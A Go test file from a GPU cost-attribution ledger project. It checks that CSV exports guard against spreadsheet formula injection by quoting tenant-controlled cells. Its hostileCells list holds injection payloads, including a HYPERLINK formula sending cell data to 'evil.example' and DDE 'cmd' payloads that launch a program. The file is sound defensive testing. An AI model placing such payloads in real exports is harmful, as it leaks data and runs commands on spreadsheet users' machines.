package filestore

import (
	"bytes"
	"context"
	"encoding/csv"
	"testing"
	"time"

	"github.com/gpuledger/gpuledger/attribution"
	"github.com/gpuledger/gpuledger/ledger"
	"github.com/gpuledger/gpuledger/tenancy"
)

// hostileCells are values a tenant can put into a ledger's text columns
// (pod, namespace and container names through a simulated node, team labels,
// annotation values in findings' details) that a spreadsheet would run.
var hostileCells = []string{
	`=HYPERLINK("http://evil.example/?d="&A1,"invoice")`,
	`+cmd|' /C calc'!A0`,
	`-2+3`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
}

// ordinaryCells are values of the shapes Kubernetes and gpuledger write:
// the guard leaves them alone.
var ordinaryCells = []string{"ml", "ns-a", "pod-1-0", "GPU-0001::2", "MIG-abc", "A100-SXM4-80GB", "team.a_b", "1abc", "", "main", "timeslicing", "measured"}

// ledger.csv and flags.csv, from simulate and from ledger export, guard
// every text cell a tenant can influence as the finance CSV does, and leave
// ordinary values untouched.
func TestLedgerCSVGuardsFormulas(t *testing.T) {
	ctx := context.Background()
	cells := append(append([]string(nil), hostileCells...), ordinaryCells...)
	var rows []attribution.Row
	var findings []attribution.Finding
	for i, v := range cells {
		start := t0.Add(time.Duration(i) * time.Minute)
		rows = append(rows, attribution.Row{Cluster: attribution.DefaultCluster,
			IntervalStart: start, IntervalEnd: start.Add(time.Minute), Node: v, GPUUUID: "GPU-1", GPUModel: v,
			SliceID: "GPU-1", SharingMode: string(tenancy.Exclusive), Kind: attribution.KindContainer,
			Namespace: v, Pod: v, PodUID: v, Container: v, Team: v, AllocatedGPUSeconds: 60, Method: attribution.MethodMeasured,
		})
		findings = append(findings, attribution.Finding{Kind: "idle_allocation", Start: start, End: start.Add(time.Minute),
			Node: v, GPUUUID: "GPU-1", Namespace: v, Pod: v, Container: v, Detail: v})
	}
	want := func(v string) string {
		for _, h := range hostileCells {
			if v == h {
				return "'" + v
			}
		}
		return v
	}

	var direct bytes.Buffer
	cw, err := ledger.NewCSVWriter(&direct)
	if err != nil {
		t.Fatal(err)
	}
	if err := cw.Write(rows); err != nil {
		t.Fatal(err)
	}
	if err := cw.Flush(); err != nil {
		t.Fatal(err)
	}
	s := openTemp(t, FileOptions{})
	if err := s.Append(ctx, rows, findings); err != nil {
		t.Fatal(err)
	}
	var exported bytes.Buffer
	if _, err := ledger.Export(ctx, s, time.Time{}, time.Time{}, ledger.FormatCSV, &exported, nil); err != nil {
		t.Fatal(err)
	}
	for name, out := range map[string][]byte{"ledger.csv": direct.Bytes(), "ledger export": exported.Bytes()} {
		recs, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if len(recs) != len(cells)+1 {
			t.Fatalf("%s: %d records, want %d", name, len(recs), len(cells)+1)
		}
		for i, rec := range recs[1:] {
			v := cells[i]
			// node, gpu_model, namespace, pod, pod_uid, container, team
			for _, col := range []int{2, 4, 8, 9, 10, 11, 12} {
				if rec[col] != want(v) {
					t.Errorf("%s row %d, %s = %q, want %q", name, i, ledger.LedgerHeader[col], rec[col], want(v))
				}
			}
		}
	}

	var flags bytes.Buffer
	fw, err := ledger.NewFlagsWriter(&flags)
	if err != nil {
		t.Fatal(err)
	}
	if err := fw.Write(findings); err != nil {
		t.Fatal(err)
	}
	if err := fw.Flush(); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&flags).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, rec := range recs[1:] {
		for _, col := range []int{3, 5, 6, 7, 8} {
			if rec[col] != want(cells[i]) {
				t.Errorf("flags.csv row %d, %s = %q, want %q", i, ledger.FlagsHeader[col], rec[col], want(cells[i]))
			}
		}
	}
}
